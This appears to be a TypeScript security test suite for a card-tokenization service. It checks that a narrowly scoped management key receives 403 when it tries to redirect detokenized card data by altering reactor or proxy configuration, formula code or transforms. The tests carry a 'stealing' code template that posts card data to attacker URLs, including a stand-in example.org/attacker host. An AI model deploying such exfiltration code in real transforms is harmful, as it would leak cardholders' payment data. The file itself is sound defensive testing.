import { describe, expect, it } from "vitest";
import { type Client, client, createTenant, type HttpResponse } from "#test/support/http.ts";
import { useLocalServer } from "#test/support/local-server.ts";
import { useService } from "#test/support/service.ts";
import { appKey, revealEverything, type TokenBody, VISA } from "#test/support/tokens.ts";

/**
 * Attack: a management key that cannot read card data (only `proxy:*` or `reactor:*`) changes what code sees
 * callers' detokenized data, or where that data goes, on a proxy or reactor bound to no application (so no
 * application's ceiling stands in the way): a reactor's configuration or its formula's code, a proxy's
 * configuration its transform reads, a binding… Every later caller's data then goes where the attacker says.
 * Each such field (shared/domain/data-routing.ts) is tried by POST, PUT and PATCH: 403 and nothing changes,
 * while the member's own key makes the same change.
 */
const svc = useService({ allowPrivateDestinations: true });
const mergePatch = { "content-type": "application/merge-patch+json" };

/** Every body the receiver got, by path: `/partner` is the legitimate destination, `/attacker` the thief. */
const received: { path: string; body: string }[] = [];
const receiver = useLocalServer((req, res, body) => {
  received.push({ path: req.url ?? "", body: body.toString() });
  res.writeHead(200, { "content-type": "application/json" });
  res.end("{}");
});
const stolen = () => received.filter((r) => r.path.startsWith("/attacker") && r.body.includes(VISA));
const delivered = () => received.filter((r) => r.path.startsWith("/partner") && r.body.includes(VISA));

/** Sends the validated args where the reactor's configuration says. */
const FORWARDING_FORMULA = `module.exports = async (req) => {
  await fetch(req.configuration.partner, { method: "POST", body: JSON.stringify(req.args) });
  return { raw: { sent: true } };
};`;
const stealing = (url: string) => `module.exports = async (req) => {
  await fetch("${url}", { method: "POST", body: JSON.stringify(req.args) });
  return { raw: { sent: true } };
};`;
/** Copies the detokenized body where the proxy's configuration says, then forwards it unchanged. */
const COPYING_TRANSFORM = `module.exports = async (req) => {
  await fetch(req.configuration.copy_to, { method: "POST", body: JSON.stringify(req.args.body) });
  return { body: req.args.body, headers: {} };
};`;
const PASSING_TRANSFORM = "module.exports = async (req) => ({ body: req.args.body, headers: {} });";

interface World {
  api: Client;
  member: string;
  /** Holds proxy:* and reactor:* only: no token access at all. */
  narrow: string;
  /** A caller of the proxy and the reactor, who may use every token. */
  caller: string;
  tokenId: string;
  /** A private application with no access, which even the narrow key's ceiling covers. */
  emptyAppId: string;
  formula: { id: string; body: Record<string, unknown> };
  reactor: { id: string; body: Record<string, unknown> };
  proxy: { id: string; key: string; body: Record<string, unknown> };
}

async function created<T>(res: Promise<HttpResponse<T>>): Promise<T> {
  const answered = await res;
  expect(answered.status, JSON.stringify(answered.body)).toBe(201);
  return answered.body;
}

/** A tenant with an unbound forwarding reactor and an unbound copying proxy, both made by the member. */
async function world(): Promise<World> {
  const api = client(svc.url);
  const tenant = await createTenant(api, svc.rootKey);
  const member = tenant.managementKey;
  const narrow = await appKey(api, member, {
    type: "management",
    permissions: [
      "proxy:create",
      "proxy:read",
      "proxy:update",
      "reactor:create",
      "reactor:read",
      "reactor:update",
      "application:read",
    ],
  });
  const caller = await appKey(api, member, { type: "private", rules: revealEverything });
  const token = await created(
    api.post<TokenBody>("/tokens", { key: caller, body: { type: "card_number", data: VISA } }),
  );
  const emptyApp = await created(
    api.post<{ id: string }>("/applications", { key: member, body: { name: "nothing", type: "private" } }),
  );
  const formulaBody = {
    name: "forward",
    code: FORWARDING_FORMULA,
    configuration: [{ name: "partner", type: "string" }],
    request_parameters: [{ name: "number", type: "string" }],
    allowed_hosts: [new URL(receiver.url).host],
  };
  const formula = await created(
    api.post<{ id: string }>("/reactor-formulas", { key: member, body: formulaBody }),
  );
  const reactorBody = { name: "forward", configuration: { partner: `${receiver.url}/partner` } };
  const reactor = await created(
    api.post<{ id: string }>("/reactors", {
      key: member,
      body: { ...reactorBody, formula: { id: formula.id } },
    }),
  );
  const proxyBody = {
    name: "payments",
    destination_url: `${receiver.url}/partner`,
    request_transform: { code: COPYING_TRANSFORM },
    response_transform: { code: PASSING_TRANSFORM },
    configuration: { copy_to: `${receiver.url}/partner/copy` },
    allowed_hosts: [new URL(receiver.url).host],
    require_auth: true,
  };
  const proxy = await created(
    api.post<{ id: string; key: string }>("/proxies", { key: member, body: proxyBody }),
  );
  return {
    api,
    member,
    narrow,
    caller,
    tokenId: token.id,
    emptyAppId: emptyApp.id,
    formula: { id: formula.id, body: formulaBody },
    reactor: { id: reactor.id, body: reactorBody },
    proxy: { id: proxy.id, key: proxy.key, body: proxyBody },
  };
}

function expectRefused(res: HttpResponse) {
  expect(res.status, JSON.stringify(res.body)).toBe(403);
  expect(res.headers.get("content-type")).toContain("application/problem+json");
}

const react = (w: World) =>
  w.api.post(`/reactors/${w.reactor.id}/react`, {
    key: w.caller,
    body: { args: { number: `{{ ${w.tokenId} }}` } },
  });
const callProxy = (w: World) =>
  w.api.post("/proxy", {
    key: w.caller,
    headers: { "svc-proxy-key": w.proxy.key },
    body: { number: `{{ ${w.tokenId} }}` },
  });

describe("attack: a key that cannot read card data redirects it through an unbound reactor or proxy", () => {
  it("refuses a reactor:update key changing an unbound reactor's configuration or its formula's code (403); callers' data stays", async () => {
    const w = await world();
    const attacker = `${receiver.url}/attacker`;

    const configured = await w.api.patch(`/reactors/${w.reactor.id}`, {
      key: w.narrow,
      headers: mergePatch,
      body: { configuration: { partner: attacker } },
    });
    const recoded = await w.api.put(`/reactor-formulas/${w.formula.id}`, {
      key: w.narrow,
      body: { ...w.formula.body, code: stealing(attacker) },
    });
    const reacted = await react(w);

    expectRefused(configured);
    expectRefused(recoded);
    expect(reacted.status, JSON.stringify(reacted.body)).toBe(200);
    expect(stolen()).toEqual([]);
    expect(delivered().length).toBeGreaterThan(0);
  });

  it("refuses a proxy:update key changing the configuration an unbound proxy's transform reads (403); callers' data stays", async () => {
    const w = await world();

    const configured = await w.api.patch(`/proxies/${w.proxy.id}`, {
      key: w.narrow,
      headers: mergePatch,
      body: { configuration: { copy_to: `${receiver.url}/attacker` } },
    });
    const called = await callProxy(w);

    expectRefused(configured);
    expect(called.status, JSON.stringify(called.body)).toBe(200);
    expect(stolen()).toEqual([]);
    expect(delivered().length).toBeGreaterThan(0);
  });

  it("refuses a narrow proxy:create / reactor:create key creating a proxy, formula or reactor (403); nothing is stored", async () => {
    const w = await world();

    const proxy = await w.api.post("/proxies", { key: w.narrow, body: { ...w.proxy.body, name: "thief" } });
    const formula = await w.api.post("/reactor-formulas", {
      key: w.narrow,
      body: { ...w.formula.body, name: "thief" },
    });
    const reactor = await w.api.post("/reactors", {
      key: w.narrow,
      body: { ...w.reactor.body, name: "thief", formula: { id: w.formula.id } },
    });
    const lists = await Promise.all(
      ["/proxies", "/reactor-formulas", "/reactors"].map((path) =>
        w.api.get<{ data: { name: string }[] }>(path, { key: w.member }),
      ),
    );

    for (const res of [proxy, formula, reactor]) expectRefused(res);
    for (const list of lists) expect(list.body.data.map((item) => item.name)).not.toContain("thief");
  });
});

/** One routing field of one resource: the change tried, as a PATCH body (absent: PUT only) and a PUT body. */
interface Row {
  resource: "proxy" | "reactor" | "reactor_formula";
  field: string;
  change: (w: World) => Record<string, unknown>;
}

const ROWS: Row[] = [
  { resource: "proxy", field: "destination_url", change: () => ({ destination_url: "https://example.org" }) },
  {
    resource: "proxy",
    field: "request_transform",
    change: () => ({ request_transform: { code: stealing("https://example.org/attacker") } }),
  },
  {
    resource: "proxy",
    field: "response_transform",
    change: () => ({ response_transform: { code: "module.exports = async (res) => res.args;" } }),
  },
  {
    resource: "proxy",
    field: "configuration",
    change: () => ({ configuration: { copy_to: `${receiver.url}/attacker` } }),
  },
  { resource: "proxy", field: "allowed_hosts", change: () => ({ allowed_hosts: ["*.example.org"] }) },
  { resource: "proxy", field: "require_auth", change: () => ({ require_auth: false }) },
  { resource: "proxy", field: "application", change: (w) => ({ application: { id: w.emptyAppId } }) },
  {
    resource: "reactor",
    field: "configuration",
    change: () => ({ configuration: { partner: `${receiver.url}/attacker` } }),
  },
  { resource: "reactor", field: "application", change: (w) => ({ application: { id: w.emptyAppId } }) },
  {
    resource: "reactor_formula",
    field: "code",
    change: () => ({ code: stealing(`${receiver.url}/attacker`) }),
  },
  // Without declared parameters every arg reaches the code, not only `number`.
  { resource: "reactor_formula", field: "request_parameters", change: () => ({ request_parameters: [] }) },
  {
    resource: "reactor_formula",
    field: "allowed_hosts",
    change: () => ({ allowed_hosts: ["*.example.org"] }),
  },
];

const PATHS = { proxy: "/proxies", reactor: "/reactors", reactor_formula: "/reactor-formulas" } as const;
const bodyOf = (w: World, resource: Row["resource"]) =>
  resource === "proxy" ? w.proxy.body : resource === "reactor" ? w.reactor.body : w.formula.body;
const idOf = (w: World, resource: Row["resource"]) =>
  resource === "proxy" ? w.proxy.id : resource === "reactor" ? w.reactor.id : w.formula.id;

/** The writes a row tries: PUT with the field changed, and PATCH where the resource has it (formulas do not). */
function writes(w: World, row: Row, key: string) {
  const url = `${PATHS[row.resource]}/${idOf(w, row.resource)}`;
  const change = row.change(w);
  return [
    () => w.api.put(url, { key, body: { ...bodyOf(w, row.resource), ...change } }),
    ...(row.resource === "reactor_formula"
      ? []
      : [() => w.api.patch(url, { key, headers: mergePatch, body: change })]),
  ];
}

describe("every field that decides what code sees or where data goes needs a member's own key", () => {
  it.each(ROWS)(
    "$resource $field: 403 to a narrow key by PUT and PATCH, nothing changes; the member may",
    async (row) => {
      const w = await world();
      const url = `${PATHS[row.resource]}/${idOf(w, row.resource)}`;
      const before = await w.api.get(url, { key: w.member });

      const refused = [];
      for (const write of writes(w, row, w.narrow)) refused.push(await write());
      const after = await w.api.get(url, { key: w.member });
      const allowed = [];
      for (const write of writes(w, row, w.member)) allowed.push(await write());
      const changed = await w.api.get(url, { key: w.member });

      for (const res of refused) expectRefused(res);
      expect(after.body).toEqual(before.body);
      for (const res of allowed) expect([200, 204], JSON.stringify(res.body)).toContain(res.status);
      expect(changed.body).not.toEqual(before.body);
    },
  );

  it("still lets a narrow key rename an unbound proxy, reactor or formula (no routing field changes)", async () => {
    const w = await world();

    const proxy = await w.api.patch(`/proxies/${w.proxy.id}`, {
      key: w.narrow,
      headers: mergePatch,
      body: { name: "renamed" },
    });
    const reactor = await w.api.put(`/reactors/${w.reactor.id}`, {
      key: w.narrow,
      body: { ...w.reactor.body, configuration: { partner: `${receiver.url}/partner` }, name: "renamed" },
    });
    const formula = await w.api.put(`/reactor-formulas/${w.formula.id}`, {
      key: w.narrow,
      body: { ...w.formula.body, name: "renamed", description: "same code" },
    });

    expect(proxy.status, JSON.stringify(proxy.body)).toBe(204);
    expect(reactor.status, JSON.stringify(reactor.body)).toBe(200);
    expect(formula.status, JSON.stringify(formula.body)).toBe(200);
  });
});
